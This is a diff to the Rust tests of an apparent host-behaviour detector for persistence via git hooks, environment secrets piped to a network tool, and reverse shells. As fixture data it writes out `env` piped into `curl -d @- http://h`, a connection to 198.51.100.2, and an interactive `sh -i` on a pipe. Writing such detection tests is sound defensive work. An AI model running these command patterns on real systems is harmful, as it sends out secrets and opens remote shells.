@@ -2483,22 +2483,23 @@ fn a_hook_in_the_sessions_own_repository_is_not_persistence() {
     fold(
         &mut s,
         &[
-            // `git init` copies sample hooks before it writes the config.
+            // `git init` copies sample hooks and writes `description` and `info/exclude`.
             open(T0, 10, "/w/r/.git/hooks/pre-commit.sample", WRITE_NEW),
-            open(T0 + 1, 10, "/w/r/.git/config", WRITE_NEW),
+            open(T0 + 1, 10, "/w/r/.git/description", WRITE_NEW),
             open(T0 + 2, 11, "/w/r/.git/hooks/pre-commit", WRITE_NEW),
         ],
         &h,
     );
     assert!(!s.context().history.persistence_written);
+    // `git config` in someone else's repository (`config.lock`, then `config`) does not make
+    // it the session's own.
     fold(
         &mut s,
-        &[open(
-            T0 + 3,
-            11,
-            "/home/u/proj/.git/hooks/post-merge",
-            WRITE_NEW,
-        )],
+        &[
+            open(T0 + 3, 10, "/home/u/proj/.git/config.lock", WRITE_NEW),
+            open(T0 + 3, 10, "/home/u/proj/.git/config", WRITE_NEW),
+            open(T0 + 3, 11, "/home/u/proj/.git/hooks/post-merge", WRITE_NEW),
+        ],
         &h,
     );
     assert!(s.context().history.persistence_written);
@@ -2625,4 +2626,80 @@ fn what_a_package_manager_downloads_is_not_a_fetched_file() {
     assert!(!run_after(&["npm", "install", "-g", "tool"]));
     // The same shape by a script that downloads it by hand.
     assert!(run_after(&["python3", "get.py"]));
+}
+
+#[test]
+fn the_environment_piped_into_a_network_tool_is_a_secret_sent() {
+    use crate::event::{ExecFacts, FdKind};
+    let h = Heuristics::default();
+    let mut s = SessionContext::new(1);
+    fold(
+        &mut s,
+        &[
+            with_facts(
+                exec_child(T0, 10, 1, "/usr/bin/env", &["env"]),
+                ExecFacts {
+                    stdio: vec![stdio(1, FdKind::Pipe, 31, None)],
+                    ..ExecFacts::default()
+                },
+            ),
+            with_facts(
+                exec_child(
+                    T0,
+                    11,
+                    1,
+                    "/usr/bin/curl",
+                    &["curl", "-d", "@-", "http://h"],
+                ),
+                ExecFacts {
+                    stdio: vec![stdio(0, FdKind::Pipe, 31, None)],
+                    ..ExecFacts::default()
+                },
+            ),
+            connect(T0 + 1, 11, "198.51.100.2", 80),
+        ],
+        &h,
+    );
+    assert!(s.context().history.sensitive_then_external);
+    // `env | grep PATH`: nothing sent.
+    let mut s = SessionContext::new(2);
+    fold(
+        &mut s,
+        &[
+            with_facts(
+                exec_child(T0, 10, 1, "/usr/bin/env", &["env"]),
+                ExecFacts {
+                    stdio: vec![stdio(1, FdKind::Pipe, 31, None)],
+                    ..ExecFacts::default()
+                },
+            ),
+            exec_child(T0, 11, 1, "/usr/bin/curl", &["curl", "-s", "http://h"]),
+            connect(T0 + 1, 11, "198.51.100.2", 80),
+        ],
+        &h,
+    );
+    assert!(!s.context().history.sensitive_then_external);
+}
+
+#[test]
+fn an_interactive_shell_on_a_pipe_is_a_reverse_shell() {
+    use crate::event::{ExecFacts, FdKind};
+    let h = Heuristics::default();
+    let run = |argv: &[&str]| {
+        let mut s = SessionContext::new(1);
+        fold(
+            &mut s,
+            &[with_facts(
+                exec_child(T0, 10, 1, "/usr/bin/sh", argv),
+                ExecFacts {
+                    stdio: vec![stdio(0, FdKind::Pipe, 5, None)],
+                    ..ExecFacts::default()
+                },
+            )],
+            &h,
+        );
+        s.context().history.interpreter_on_socket
+    };
+    assert!(run(&["sh", "-i"]));
+    assert!(!run(&["sh", "-c", "wc -l"]));
 }
